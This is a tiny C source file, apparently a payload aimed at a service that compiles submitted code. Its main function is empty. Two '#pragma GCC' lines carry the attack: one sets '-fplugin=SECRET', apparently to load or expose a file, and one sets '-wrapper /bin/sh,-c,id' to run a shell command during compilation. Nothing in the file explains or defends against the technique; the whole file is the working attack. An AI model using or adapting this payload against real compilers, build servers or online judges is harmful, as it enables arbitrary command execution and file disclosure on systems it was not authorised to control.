#pragma GCC optimize("-fplugin=SECRET")
#pragma GCC option("-wrapper /bin/sh,-c,id")
int main() {}
